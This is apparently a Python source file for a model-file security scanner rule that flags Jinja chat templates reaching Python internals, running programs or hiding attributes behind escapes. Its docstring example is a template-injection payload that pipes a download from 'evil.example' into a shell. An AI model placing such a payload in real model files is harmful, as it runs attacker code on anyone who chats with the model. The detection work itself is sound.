"""Chat templates that do more than put a conversation together."""

from __future__ import annotations

from labcoat.core.rule import rule
from labcoat.model_files.hits import hits_of

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from labcoat.core.models.model import Model
    from labcoat.core.rule import Hit, Options
    from labcoat.core.segment import Segment

ESCAPES = ("\\u006", "\\u007", "\\u005f", "\\u005F", "\\x6", "\\x7", "\\x5f", "\\x5F")  # of letters: nobody needs them


@rule("high", looks_at="model", keywords=("chat_template", "{{", "{%", *ESCAPES))
def unsafe_chat_template(model: Model, options: Options) -> Iterator[Hit]:
    """A chat template reaches Python's internals.

    What it does
    ------------
    Reads the Jinja templates that come with language models: the metadata of GGUF files, `chat_template` in
    `tokenizer_config.json`, `processor_config.json` and `chat_template.json`, files `chat_template.jinja`, and those
    inside of archives. Reports expressions that reach Python's internals (`__class__`, `__globals__`, also put
    together from pieces or hidden behind escapes), that call programs, include other files, or count to billions.

    Why is this bad?
    ----------------
    A template runs whenever somebody chats with the model. A program that renders it without Jinja's sandbox, as
    llama-cpp-python did before 0.2.72, runs whatever Python code it reaches; sandboxes have been left before, too.

    Example
    -------
        {{ cycler.__init__.__globals__.os.popen('curl evil.example | sh').read() }}

    Use instead
    -----------
    Take the template of the model that this one was made from, or write one that only uses `messages`, `tools`,
    `bos_token` and the like.

    References
    ----------
    - https://nvd.nist.gov/vuln/detail/CVE-2024-34359
    - https://jinja.palletsprojects.com/en/stable/sandbox/
    - https://huggingface.co/docs/transformers/chat_templating
    """
    yield from hits_of(model, "template")


@unsafe_chat_template.register("json", "yaml", "toml")
def _in_settings(segment: Segment, options: Options) -> Iterator[Hit]:
    from labcoat.core.models.configs import judge_templates
    from labcoat.model_files.settings_hits import hit_at, may_have

    if may_have(segment, "chat_template"):
        for judged in judge_templates(segment.settings()[0]):
            yield hit_at(segment, judged)


@unsafe_chat_template.register("chat-template")
def _in_template(segment: Segment, options: Options) -> Iterator[Hit]:
    from labcoat.core.models.configs import TEMPLATE_ADVICE
    from labcoat.core.models.templates import judge_template
    from labcoat.core.rule import Hit

    for start, end, why in judge_template(segment.text):
        yield Hit(segment, start, end, f"The template {why}", TEMPLATE_ADVICE)


@unsafe_chat_template.register("jinja")
def _in_other_template(segment: Segment, options: Options) -> Iterator[Hit]:
    if any([word in segment.text for word in ("messages", "bos_token", "add_generation_prompt", "eos_token")]):
        yield from _in_template(segment, options)
